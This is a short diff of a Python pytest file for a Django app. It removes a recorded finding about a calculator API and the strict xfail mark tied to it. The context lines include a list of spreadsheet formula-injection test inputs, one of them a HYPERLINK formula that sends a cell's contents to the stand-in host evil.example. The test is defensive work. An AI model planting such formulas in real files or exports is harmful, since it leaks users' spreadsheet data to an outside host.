@@ -30,7 +30,6 @@ pytestmark = pytest.mark.django_db
 FINDING_HEADERS_ONLY = "investment import: a file with only a header row reports 0 created with no message"
 FINDING_CONTROL_CHARS = "investment import: NUL and other control characters are stored in lead names and notes"
 FINDING_EXPONENT = "investment import: 1e400 gives '[<class decimal.InvalidOperation>]' with no column"
-FINDING_CALCULATOR = "calculator API: negative, fractional and absurd facts are evaluated instead of refused"
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
@@ -234,7 +233,6 @@ class TestCalculatorApi:
             "local_spend" in k or "shooting" in k for k in body.get("fields", {})
         )
 
-    @pytest.mark.xfail(strict=True, reason=FINDING_CALCULATOR)
     @pytest.mark.parametrize(
         "facts",
         [
